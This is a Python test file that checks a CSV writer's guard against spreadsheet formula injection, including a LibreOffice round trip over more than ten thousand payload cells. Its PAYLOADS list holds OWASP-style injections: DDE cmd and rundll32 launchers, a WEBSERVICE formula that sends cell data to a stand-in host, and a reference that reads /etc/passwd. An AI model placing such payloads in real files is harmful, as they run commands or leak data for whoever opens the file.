"""The CSV: what is written comes back, and nothing in it runs."""

import csv
import re
import shutil
import subprocess
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pipeline.tables.csv import TableFile, guard, read_table, unguard

CELLS = [
    pytest.param("=1+1", "'=1+1", id="formula"),
    pytest.param("+1 555 010", "'+1 555 010", id="plus"),
    pytest.param("-2 degrees", "'-2 degrees", id="minus with words"),
    pytest.param("-2.5", "-2.5", id="a negative number stays a number"),
    pytest.param("@SUM(A1)", "'@SUM(A1)", id="at"),
    pytest.param("\tx", "'\tx", id="tab"),
    pytest.param("\rx", "'\rx", id="carriage return"),
    pytest.param("'tis", "''tis", id="an apostrophe of the text is kept apart from the guard"),
    pytest.param("NA", "NA", id="NA is a word"),
    pytest.param(" =1+1", "' =1+1", id="formula behind a blank"),
    pytest.param(
        "\N{ZERO WIDTH SPACE}=1+1", "'\N{ZERO WIDTH SPACE}=1+1", id="formula behind a mark that does not show"
    ),
    pytest.param("＝1+1", "'＝1+1", id="formula at full width"),
    pytest.param("-", "'-", id="a lone dash"),
    pytest.param("a=1", "a=1", id="an equals sign inside"),
    pytest.param("'=1", "''=1", id="what looks guarded is guarded again"),
    pytest.param("\nx", "'\nx", id="line feed first"),
    pytest.param("007", "'007", id="leading zeros"),
    pytest.param(" 0071", "' 0071", id="leading zeros behind a blank"),
    pytest.param("14 ", "'14 ", id="a number with a blank, which would go"),
    pytest.param("0", "0", id="zero"),
    pytest.param("0.5", "0.5", id="a zero before the point"),
    pytest.param("6000000000000", "6000000000000", id="trillions stay a number"),
    pytest.param("123456789012345", "123456789012345", id="fifteen digits"),
    pytest.param("1234567890123456", "'1234567890123456", id="sixteen digits"),
    pytest.param("9" * 5000, "'" + "9" * 5000, id="thousands of digits"),
    pytest.param("1E5", "'1E5", id="exponent"),
    pytest.param("3/4", "'3/4", id="fraction, or the third of April"),
    pytest.param("10-12", "'10-12", id="range, or a date"),
    pytest.param("1/2/2024", "'1/2/2024", id="date in numerals"),
    pytest.param("10:30", "'10:30", id="score, or a time"),
    pytest.param("3:2", "'3:2", id="score of one digit"),
    pytest.param("714:30", "'714:30", id="hours without end"),
    pytest.param("2024-05-04 10:30", "'2024-05-04 10:30", id="day and time"),
    pytest.param("2024-5-4", "'2024-5-4", id="ISO date without its zeros"),
    pytest.param(".5", "'.5", id="a point first"),
    pytest.param("1 1/2", "'1 1/2", id="mixed number"),
    pytest.param("(14)", "'(14)", id="minus fourteen to an accountant"),
    pytest.param("True", "'True", id="truth value"),
    pytest.param("1,500", "1,500", id="thousands are taken for what they are"),
    pytest.param("14%", "14%", id="so are percents"),
    pytest.param("5 May", "'5 May", id="day and month"),
    pytest.param("January 5", "'January 5", id="month and day"),
    pytest.param("March", "March", id="a month alone stays a word"),
    pytest.param("may 5 people", "may 5 people", id="a word that looks like a month"),
    pytest.param("2025-01-14", "2025-01-14", id="ISO dates are what the columns promise"),
    pytest.param("2024-10/..", "2024-10/..", id="an open interval"),
    pytest.param("NULL", "NULL", id="NULL is a word"),
    pytest.param("nan", "nan", id="nan is a name"),
    pytest.param("#N/A", "#N/A", id="an error value is text"),
    pytest.param("bell\a", "bell_x0007_", id="control character"),
    pytest.param("nul\0", "nul_x0000_", id="NUL"),
    pytest.param("x\ud800y", "x_xD800_y", id="half a surrogate pair"),
    pytest.param("_x0007_", "_x005F_x0007_", id="what looks escaped is escaped"),
    pytest.param("_x00ab_", "_x005F_x00ab_", id="small hexadecimal digits"),
    pytest.param("__x0007__", "__x005F_x0007__", id="underscores around"),
    pytest.param("a_x1_b", "a_x1_b", id="an ordinary underscore"),
    pytest.param("\x85 \u2028 \x0b", "\x85 \u2028 _x000B_", id="rare line ends"),
    pytest.param("👩‍🚒 \u202e14 ١٤", "👩‍🚒 \u202e14 ١٤", id="emoji, bidirectional marks, Arabic-Indic digits"),
    pytest.param('say "two", then\nfour', 'say "two", then\nfour', id="quotes, comma, line break"),
    pytest.param("", "", id="empty"),
]


@pytest.mark.parametrize(("cell", "written"), CELLS)
def test_cells_are_guarded_reversibly(cell: str, written: str) -> None:
    assert guard(cell) == written
    assert unguard(written) == cell


@pytest.mark.parametrize(("cell", "written"), CELLS)
def test_cells_come_back_from_the_file(tmp_path: Path, cell: str, written: str) -> None:
    path = tmp_path / "t.csv"
    table = TableFile(path, ["a", "b"])
    table.append([{"a": cell, "b": "x"}])
    table.append([])
    table.append([{"a": cell, "b": "y"}])
    assert read_table(path) == [{"a": cell, "b": "x"}, {"a": cell, "b": "y"}]
    assert table.rows == 2
    with path.open(encoding="utf-8-sig", newline="") as handle:
        assert [row["a"] for row in csv.DictReader(handle)] == [written, written]


@pytest.fixture
def office() -> str:
    """LibreOffice's command."""
    command = shutil.which("soffice") or shutil.which("libreoffice")
    if not command:
        pytest.skip("LibreOffice is not installed (Debian: libreoffice-calc)")
    return command


def test_file_has_a_byte_order_mark_once_and_rfc_4180_line_ends(tmp_path: Path) -> None:
    table = TableFile(tmp_path / "t.csv", ["a"])
    table.append([{"a": "ä"}])
    assert (tmp_path / "t.csv").read_bytes() == "\ufeffa\r\nä\r\n".encode()


@given(st.text())
def test_any_cell_comes_back(cell: str) -> None:
    written = guard(cell)
    assert unguard(written) == cell
    assert not written.startswith(("=", "+", "@", "\t", "\r"))


STARTS = (
    *("", "=", "+", "-", "@", "\t", "\r", "＝", "＋", "'", "\n", " "),
    *("\u200b", "\ufeff", "007", "3/4", '"', ",", "|"),
)
# After OWASP's page on CSV injection and the payload lists that quote it.
PAYLOADS = (
    *("1+1", "SUM(A1:A9)", "x", "14", "-2+3", "A1", "R1C1", "1E5", "10:30", "5 May", "NA", "#REF!", "{=1+1}"),
    *("cmd|' /C calc'!A0", "cmd|' /C calc'!'A1'", "MSEXCEL|'\\..\\..\\cmd.exe'!''", 'DDE("cmd";"/C calc";"!A0")'),
    *('HYPERLINK("http://e.example","x")', 'WEBSERVICE("http://e.example/"&A1)', "IMPORTXML(A1,A2)"),
    *('IMAGE("http://e.example")', "'file:///etc/passwd'#$passwd.A1", 'INDIRECT("A1")', "rundll32|'URL.dll'!A"),
    *('",=1+1,"', '";=1+1;"', '"\n=1+1', "1\r\n=1+1"),
)


@pytest.mark.office
def test_libreoffice_opens_ten_thousand_payloads_without_a_formula_or_a_changed_cell(
    tmp_path: Path, office: str
) -> None:
    cells = [one + other + payload for one in STARTS for other in STARTS for payload in PAYLOADS]
    assert len(cells) > 10_000
    TableFile(tmp_path / "t.csv", ["a", "b"]).append({"a": cell, "b": "x"} for cell in cells)
    profile = f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}"
    # comma, quotation mark, UTF-8, from the first line
    command = [office, profile, "--headless", "--infilter=CSV:44,34,76,1"]
    for form in ("fods", "csv:Text - txt - csv (StarCalc):44,34,76,1"):
        arguments = ["--convert-to", form, "--outdir", str(tmp_path / "saved"), str(tmp_path / "t.csv")]
        subprocess.run([*command, *arguments], check=True, capture_output=True)
    assert "table:formula" not in (tmp_path / "saved" / "t.fods").read_text(encoding="utf-8")
    # LibreOffice keeps one kind of line end.
    shown = [re.sub("[\r\n]+", "\n", row["a"]) for row in read_table(tmp_path / "saved" / "t.csv")]
    assert shown == [re.sub("[\r\n]+", "\n", cell) for cell in cells]


@pytest.mark.parametrize("character", ["x", "=", "👩", "\a"])
def test_cells_longer_than_spreadsheets_take_are_cut_and_say_so(tmp_path: Path, character: str) -> None:
    table = TableFile(tmp_path / "t.csv", ["a"])
    table.append([{"a": character * 40_000}, {"a": character * 4_000}])
    with (tmp_path / "t.csv").open(encoding="utf-8-sig", newline="") as handle:
        written = [row["a"] for row in csv.DictReader(handle)]
    assert all(len(cell.encode("utf-16-le")) // 2 <= 32_767 for cell in written)
    long, short = (row["a"] for row in read_table(tmp_path / "t.csv"))
    kept, _, told = long.partition(" [… ")
    assert kept == character * len(kept)
    assert told == f"{40_000 - len(kept):,} characters more]"
    assert short == character * 4_000
